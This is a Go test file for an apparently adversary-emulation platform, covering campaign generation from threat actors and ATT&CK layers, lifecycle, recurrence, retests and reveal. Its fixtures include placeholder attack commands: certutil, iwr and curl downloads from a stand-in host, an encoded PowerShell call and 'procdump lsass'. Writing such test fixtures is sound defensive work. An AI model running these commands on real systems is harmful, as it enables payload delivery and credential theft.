package campaigns_test

import (
	"bytes"
	"context"
	"mime/multipart"
	"net/http"
	"strings"
	"testing"
	"time"

	c "github.com/aegis-sec/aegis/collections"
	"github.com/aegis-sec/aegis/importers/registry"
	"github.com/aegis-sec/aegis/internal/campaigns"
	"github.com/aegis-sec/aegis/internal/coverage"
	"github.com/aegis-sec/aegis/internal/testutil"
	"github.com/pocketbase/dbx"
	"github.com/pocketbase/pocketbase/core"
)

func TestFromActorOneTestPerTechniqueOnPlatform(t *testing.T) {
	e := newEnv(t)
	win := e.technique("T1059.001", []string{"Windows"}, nil)
	lin := e.technique("T1059.004", []string{"Linux", "macOS"}, nil)
	old := e.technique("T1086", []string{"Windows"}, map[string]any{"revoked": true})
	both := e.technique("T1105", []string{"Windows", "Linux"}, nil)
	other := e.technique("T1110", []string{"Windows"}, nil) // not used by the actor
	_ = other
	actor := e.save(c.ThreatActors, map[string]any{"stix_id": "intrusion-set--1", "attack_id": "G9999", "name": "Cozy Test", "source": "attack"})
	for _, tech := range []string{win.Id, lin.Id, old.Id, both.Id} {
		e.save(c.ActorTechniques, map[string]any{"actor": actor.Id, "technique": tech})
	}
	tpl := func(source, id, name string, tech string, platforms []string, cmd string) string {
		return e.save(c.TestTemplates, map[string]any{"source": source, "source_id": id, "technique": tech, "name": name,
			"platforms": platforms, "executor": map[string]any{"name": "powershell", "command": cmd, "cleanup": "Remove-Item x"}}).Id
	}
	tpl("caldera", "c-1", "Download with certutil", both.Id, []string{"windows"}, "certutil -urlcache -f http://x/a a")
	best := tpl("atomic", "a-2", "Invoke-WebRequest download", both.Id, []string{"windows"}, "iwr http://x/a -OutFile a")
	tpl("atomic", "a-1", "curl download", both.Id, []string{"linux"}, "curl -o a http://x/a")
	winTpl := tpl("atomic", "a-3", "Encoded command", win.Id, []string{"windows"}, "powershell -enc AAAA")

	res := e.do("POST", "/api/aegis/campaigns/from-actor", c.RoleRedLead, map[string]any{"actor": "g9999", "platforms": []string{"windows"}})
	if res.Status != 200 {
		t.Fatalf("from-actor: %d %s", res.Status, res.Body)
	}
	var g generated
	res.JSON(t, &g)
	if g.Campaign.Threat_actor != actor.Id || g.Campaign.Status != "planned" || g.Campaign.Round != 1 || g.Campaign.Name != "Cozy Test emulation" {
		t.Errorf("campaign: %+v", g.Campaign)
	}
	got := map[string]string{}
	for _, tc := range g.Tests {
		if tc.State != c.StateDraft || !tc.Revealed || tc.Platform != "windows" {
			t.Errorf("test %+v", tc)
		}
		got[tc.Technique] = tc.Template
		if tc.Technique == both.Id && !strings.Contains(tc.Procedure, "iwr http://x/a") {
			t.Errorf("procedure not from the template: %q", tc.Procedure)
		}
	}
	if len(got) != 2 || got[both.Id] != best || got[win.Id] != winTpl || len(g.Tests) != 2 {
		t.Errorf("tests by technique: %v (want %s→%s, %s→%s)", got, both.Id, best, win.Id, winTpl)
	}
	if len(g.Skipped) != 2 {
		t.Errorf("skipped: %v", g.Skipped)
	}
	// Without platforms every technique it uses (but the revoked one) gets a test.
	res = e.do("POST", "/api/aegis/campaigns/from-actor", c.RoleAdmin, map[string]any{"actor": actor.Id, "name": "all", "blind": true})
	res.JSON(t, &g)
	if res.Status != 200 || len(g.Tests) != 3 || !g.Campaign.Blind || g.Tests[0].Revealed {
		t.Errorf("all platforms: %d %s", res.Status, res.Body)
	}
	for _, tc := range []struct {
		role string
		body map[string]any
		want int
	}{
		{c.RoleRedOperator, map[string]any{"actor": "G9999"}, 403},
		{c.RoleBlueLead, map[string]any{"actor": "G9999"}, 403},
		{c.RoleRedLead, map[string]any{"actor": "G0000"}, 404},
		{c.RoleRedLead, map[string]any{}, 400},
	} {
		if res := e.do("POST", "/api/aegis/campaigns/from-actor", tc.role, tc.body); res.Status != tc.want {
			t.Errorf("%s %v: %d, want %d", tc.role, tc.body, res.Status, tc.want)
		}
	}
}

func TestFromLayer(t *testing.T) {
	e := newEnv(t)
	a := e.technique("T1003", []string{"Windows"}, nil)
	b := e.technique("T1003.001", []string{"Windows"}, nil)
	e.technique("T1021", []string{"Windows"}, nil)
	layer := `{"name":"Q3 priorities","domain":"enterprise-attack","versions":{"layer":"4.5","navigator":"5.1.0","attack":"18"},
	 "techniques":[{"techniqueID":"T1003","tactic":"credential-access","score":3},
	  {"techniqueID":"T1003.001","tactic":"credential-access","color":"#ff6666"},
	  {"techniqueID":"T1003","tactic":"defense-evasion","score":1},
	  {"techniqueID":"T1021","tactic":"lateral-movement","score":5,"enabled":false},
	  {"techniqueID":"T1098","tactic":"persistence","score":2},
	  {"techniqueID":"T1070","tactic":"defense-evasion"}]}`
	post := func(role, content string, fields map[string]string) testutil.Response {
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		for k, v := range fields {
			mw.WriteField(k, v)
		}
		fw, _ := mw.CreateFormFile("file", "layer.json")
		fw.Write([]byte(content))
		mw.Close()
		req, _ := http.NewRequest("POST", e.url+"/api/aegis/campaigns/from-layer", &buf)
		req.Header.Set("Content-Type", mw.FormDataContentType())
		req.Header.Set("Authorization", e.users[role].Token)
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		var out bytes.Buffer
		out.ReadFrom(res.Body)
		return testutil.Response{Status: res.StatusCode, Body: out.Bytes()}
	}
	res := post(c.RoleRedLead, layer, map[string]string{"platforms": "windows"})
	if res.Status != 200 {
		t.Fatalf("from-layer: %d %s", res.Status, res.Body)
	}
	var g generated
	res.JSON(t, &g)
	techs := map[string]bool{}
	for _, tc := range g.Tests {
		techs[tc.Technique] = true
	}
	if g.Campaign.Name != "Q3 priorities" || len(g.Tests) != 2 || !techs[a.Id] || !techs[b.Id] {
		t.Errorf("campaign %q with %d tests: %s", g.Campaign.Name, len(g.Tests), res.Body)
	}
	if len(g.Skipped) != 1 || !strings.HasPrefix(g.Skipped[0], "T1098") {
		t.Errorf("skipped: %v", g.Skipped)
	}
	// T1098 waits for the catalogue: when an import brings it, the planned
	// campaign gets its test (in the import's transaction).
	if n, _ := e.app.CountRecords(c.PendingAttackRefs, dbx.HashExp{"kind": c.RefCampaignTest, "owner": g.Campaign.Id}); n != 1 {
		t.Fatalf("pending planned tests %d, want 1 (T1098)", n)
	}
	late := e.technique("T1098", []string{"Windows"}, nil)
	var resolved registry.Resolved
	if err := e.app.RunInTransaction(func(tx core.App) error {
		var err error
		resolved, err = registry.ResolveReferences(tx)
		return err
	}); err != nil {
		t.Fatal(err)
	}
	if resolved.CampaignTests != 1 {
		t.Fatalf("resolved %+v", resolved)
	}
	if n, _ := e.app.CountRecords(c.Tests, dbx.HashExp{"campaign": g.Campaign.Id, "technique": late.Id, "platform": "windows", "state": c.StateDraft}); n != 1 {
		t.Fatal("no draft test for T1098 in the planned campaign")
	}
	if n, _ := e.app.CountRecords(c.PendingAttackRefs); n != 0 {
		t.Fatalf("%d pending references left", n)
	}
	for name, bad := range map[string]string{"not json": "{", "nothing picked": `{"name":"x","domain":"enterprise-attack","techniques":[{"techniqueID":"T1003"}]}`} {
		if res := post(c.RoleRedLead, bad, nil); res.Status != 400 {
			t.Errorf("%s: %d %s", name, res.Status, res.Body)
		}
	}
	if res := post(c.RoleBlueLead, layer, nil); res.Status != 403 {
		t.Errorf("blue lead: %d", res.Status)
	}
}

func TestLifecycleAndProgress(t *testing.T) {
	e := newEnv(t)
	res := e.do("POST", "/api/collections/campaigns/records", c.RoleRedLead, map[string]any{"name": "Q4", "status": "archived", "round": 7})
	var camp struct {
		Id, Status string
		Round      int
	}
	res.JSON(t, &camp)
	if res.Status != 200 || camp.Status != "planned" || camp.Round != 1 {
		t.Fatalf("create: %d %s", res.Status, res.Body)
	}
	moves := []struct {
		to   string
		want int
	}{{"completed", 400}, {"active", 200}, {"planned", 400}, {"completed", 200}, {"active", 200}, {"completed", 200},
		{"archived", 200}, {"active", 400}}
	for _, m := range moves {
		if res := e.do("PATCH", "/api/collections/campaigns/records/"+camp.Id, c.RoleRedLead, map[string]any{"status": m.to}); res.Status != m.want {
			t.Errorf("→ %s: %d, want %d: %s", m.to, res.Status, m.want, res.Body)
		}
	}
	if e.get(c.Campaigns, camp.Id).GetString("status") != "archived" {
		t.Error("lifecycle did not end archived")
	}
	for _, tc := range []struct{ from, to string }{{"planned", "active"}, {"active", "completed"}, {"completed", "archived"}} {
		if err := campaigns.CheckStatus(tc.from, tc.to); err != nil {
			t.Errorf("%s → %s: %v", tc.from, tc.to, err)
		}
	}

	// Progress counts tests by state and outcome.
	live := e.save(c.Campaigns, map[string]any{"name": "live"})
	tech := e.technique("T1082", []string{"Linux"}, nil)
	var ids []string
	for i := 0; i < 4; i++ {
		ids = append(ids, e.save(c.Tests, map[string]any{"name": "t", "technique": tech.Id, "campaign": live.Id}).Id)
	}
	e.walk(ids[0], "blocked", "technique")
	e.walk(ids[1], "not_blocked", "none")
	e.act(ids[2], c.RoleRedLead, "cancel", map[string]any{"reason": "out of scope"})
	res = e.do("GET", "/api/aegis/campaigns/"+live.Id+"/progress", c.RoleViewer, nil)
	var p campaigns.Progress
	res.JSON(t, &p)
	if res.Status != 200 || p.Total != 4 || p.Done != 2 || p.ByState["validated"] != 2 || p.ByState["cancelled"] != 1 ||
		p.ByState["draft"] != 1 || p.ByDetection["none"] != 1 || p.ByPrevention["blocked"] != 1 || p.FindingsOpen != 1 ||
		p.Percent < 66 || p.Percent > 67 {
		t.Errorf("progress: %s", res.Body)
	}
	if res := e.do("GET", "/api/aegis/campaigns/nope/progress", c.RoleViewer, nil); res.Status != 404 {
		t.Errorf("unknown campaign: %d", res.Status)
	}
}

func TestRecurringCampaignSpawnsOnSchedule(t *testing.T) {
	e := newEnv(t)
	tech := e.technique("T1566", []string{"Windows"}, nil)
	if res := e.do("POST", "/api/collections/campaigns/records", c.RoleRedLead, map[string]any{"name": "bad", "recurrence": "every tuesday"}); res.Status != 400 {
		t.Errorf("bad cron spec: %d", res.Status)
	}
	res := e.do("POST", "/api/collections/campaigns/records", c.RoleRedLead, map[string]any{"name": "Monthly phishing", "recurrence": "0 6 1 * *"})
	var created struct{ Id, Next_run_at string }
	res.JSON(t, &created)
	if res.Status != 200 || created.Next_run_at == "" {
		t.Fatalf("create recurring: %d %s", res.Status, res.Body)
	}
	rec := e.get(c.Campaigns, created.Id)
	for _, name := range []string{"attachment", "link"} {
		e.save(c.Tests, map[string]any{"name": name, "technique": tech.Id, "campaign": rec.Id, "procedure": "send " + name})
	}
	// Drive the clock: the next run is 2030-01-01 06:00 UTC.
	due := time.Date(2030, 1, 1, 6, 0, 0, 0, time.UTC)
	rec.Set("next_run_at", due)
	if err := e.app.Save(rec); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	st, err := campaigns.SpawnDue(ctx, e.app, due.Add(-time.Minute))
	if err != nil || st.Spawned != 0 {
		t.Fatalf("before due: %+v %v", st, err)
	}
	st, err = campaigns.SpawnDue(ctx, e.app, due.Add(time.Hour))
	if err != nil || st.Spawned != 1 || st.Tests != 2 {
		t.Fatalf("when due: %+v %v", st, err)
	}
	inst, err := e.app.FindFirstRecordByFilter(c.Campaigns, "parent = {:p}", map[string]any{"p": rec.Id})
	if err != nil {
		t.Fatal(err)
	}
	if inst.GetString("status") != "planned" || inst.GetInt("round") != 1 || inst.GetString("recurrence") != "" ||
		inst.GetString("name") != "Monthly phishing — 2030-01-01" {
		t.Errorf("instance: %v", inst.FieldsData())
	}
	drafts, _ := e.app.FindAllRecords(c.Tests, nil)
	n := 0
	for _, d := range drafts {
		if d.GetString("campaign") == inst.Id {
			n++
			if d.GetString("state") != c.StateDraft || d.GetInt("revision") != 0 || !strings.HasPrefix(d.GetString("procedure"), "send ") {
				t.Errorf("spawned test: %v", d.FieldsData())
			}
		}
	}
	if n != 2 {
		t.Errorf("instance has %d tests", n)
	}
	next := e.get(c.Campaigns, rec.Id).GetDateTime("next_run_at").Time()
	if !next.Equal(time.Date(2030, 2, 1, 6, 0, 0, 0, time.UTC)) {
		t.Errorf("next_run_at = %v", next)
	}
	// Running again at the same time spawns nothing; at the next date, one more.
	if st, _ := campaigns.SpawnDue(ctx, e.app, due.Add(2*time.Hour)); st.Spawned != 0 {
		t.Errorf("second run spawned %d", st.Spawned)
	}
	if st, _ := campaigns.SpawnDue(ctx, e.app, next.Add(time.Second)); st.Spawned != 1 {
		t.Errorf("next month spawned %d", st.Spawned)
	}
	// Changing the spec through the API reschedules from now.
	res = e.do("PATCH", "/api/collections/campaigns/records/"+rec.Id, c.RoleRedLead, map[string]any{"recurrence": "0 6 * * *"})
	if res.Status != 200 {
		t.Fatalf("reschedule: %d %s", res.Status, res.Body)
	}
	if got := e.get(c.Campaigns, rec.Id).GetDateTime("next_run_at").Time(); got.Hour() != 6 || !got.After(time.Now()) || got.After(time.Now().Add(25*time.Hour)) {
		t.Errorf("rescheduled next_run_at %v", got)
	}
	// Archived campaigns stop recurring.
	arch := e.get(c.Campaigns, rec.Id)
	arch.Set("status", "archived")
	e.app.Save(arch)
	if st, _ := campaigns.SpawnDue(ctx, e.app, next.AddDate(1, 0, 0)); st.Spawned != 0 {
		t.Errorf("archived spawned %d", st.Spawned)
	}
}

func TestRetestRoundsAndCompare(t *testing.T) {
	e := newEnv(t)
	t1 := e.technique("T1059.001", []string{"Windows"}, nil)
	t2 := e.technique("T1003.001", []string{"Windows"}, nil)
	camp := e.save(c.Campaigns, map[string]any{"name": "APT sim"})
	a := e.save(c.Tests, map[string]any{"name": "ps", "technique": t1.Id, "campaign": camp.Id, "procedure": "powershell -enc"}).Id
	b := e.save(c.Tests, map[string]any{"name": "lsass", "technique": t2.Id, "campaign": camp.Id, "procedure": "procdump lsass"}).Id
	e.walk(a, "not_blocked", "none")
	e.walk(b, "blocked", "general")
	finding, err := e.app.FindFirstRecordByFilter(c.Findings, "test = {:t}", map[string]any{"t": a})
	if err != nil {
		t.Fatal("no finding for the miss")
	}
	if res := e.do("POST", "/api/aegis/campaigns/"+camp.Id+"/retest", c.RoleRedOperator, nil); res.Status != 403 {
		t.Errorf("operator retest: %d", res.Status)
	}
	res := e.do("POST", "/api/aegis/campaigns/"+camp.Id+"/retest", c.RoleRedLead, nil)
	var g generated
	res.JSON(t, &g)
	if res.Status != 200 || g.Campaign.Round != 2 || g.Campaign.Parent != camp.Id || len(g.Tests) != 2 || g.Campaign.Name != "APT sim (round 2)" {
		t.Fatalf("round 2: %d %s", res.Status, res.Body)
	}
	byTech := map[string]string{}
	for _, tc := range g.Tests {
		byTech[tc.Technique] = tc.Id
		if tc.State != c.StateDraft || (tc.Retest_of != a && tc.Retest_of != b) || tc.Procedure == "" {
			t.Errorf("round 2 test %+v", tc)
		}
	}
	e.walk(byTech[t1.Id], "not_blocked", "technique")
	e.walk(byTech[t2.Id], "not_blocked", "telemetry")
	if f := e.get(c.Findings, finding.Id); f.GetString("status") != "resolved" || f.GetString("resolved_by_test") != byTech[t1.Id] {
		t.Errorf("round 2 did not resolve the finding: %v", f.FieldsData())
	}
	// The round comparison is the coverage engine's round delta: round 2
	// detects the PowerShell test (better) and no longer blocks LSASS (worse).
	res = e.do("GET", "/api/aegis/campaigns/"+camp.Id+"/compare?round=1&with=2", c.RoleViewer, nil)
	var cmp coverage.Comparison
	res.JSON(t, &cmp)
	changes := map[string]string{}
	for _, d := range cmp.Improved {
		changes[d.AttackID] = "improved"
	}
	for _, d := range cmp.Degraded {
		changes[d.AttackID] = "regressed"
	}
	if res.Status != 200 || changes["T1059.001"] != "improved" || changes["T1003.001"] != "regressed" || len(changes) != 2 {
		t.Errorf("compare: %d %s", res.Status, res.Body)
	}
	// The same delta as /compare/rounds, and the default pair from round 2
	// is rounds 1 and 2.
	for _, url := range []string{"/api/aegis/compare/rounds?campaign=" + camp.Id + "&a=1&b=2", "/api/aegis/campaigns/" + g.Campaign.Id + "/compare"} {
		other := e.do("GET", url, c.RoleViewer, nil)
		if other.Status != 200 || string(other.Body) != string(res.Body) {
			t.Errorf("%s: %d, differs from the campaign compare: %s", url, other.Status, other.Body)
		}
	}
	// Round 3 from round 2 joins the same family.
	res = e.do("POST", "/api/aegis/campaigns/"+g.Campaign.Id+"/retest", c.RoleRedLead, nil)
	var g3 generated
	res.JSON(t, &g3)
	if res.Status != 200 || g3.Campaign.Round != 3 || g3.Campaign.Parent != camp.Id {
		t.Errorf("round 3: %s", res.Body)
	}
	if res := e.do("GET", "/api/aegis/campaigns/"+camp.Id+"/compare?round=1&with=9", c.RoleViewer, nil); res.Status != 404 {
		t.Errorf("missing round: %d", res.Status)
	}
	if res := e.do("GET", "/api/aegis/campaigns/"+camp.Id+"/compare?round=x", c.RoleViewer, nil); res.Status != 400 {
		t.Errorf("bad round: %d", res.Status)
	}
}

func TestRevealAll(t *testing.T) {
	e := newEnv(t)
	tech := e.technique("T1078", []string{"Windows"}, nil)
	camp := e.save(c.Campaigns, map[string]any{"name": "blind", "blind": true})
	for i := 0; i < 3; i++ {
		e.save(c.Tests, map[string]any{"name": "t", "technique": tech.Id, "campaign": camp.Id})
	}
	if res := e.do("POST", "/api/aegis/campaigns/"+camp.Id+"/reveal", c.RoleBlueLead, nil); res.Status != 403 {
		t.Errorf("blue reveal: %d", res.Status)
	}
	res := e.do("POST", "/api/aegis/campaigns/"+camp.Id+"/reveal", c.RoleRedLead, nil)
	if res.Status != 200 || !strings.Contains(string(res.Body), `"revealed":3`) {
		t.Fatalf("reveal: %d %s", res.Status, res.Body)
	}
	if n, _ := e.app.CountRecords(c.Tests); n != 3 {
		t.Fatal(n)
	}
	res = e.do("GET", "/api/collections/tests/records", c.RoleBlueAnalyst, nil)
	if !strings.Contains(string(res.Body), `"totalItems":3`) {
		t.Errorf("blue after reveal: %s", res.Body)
	}
}
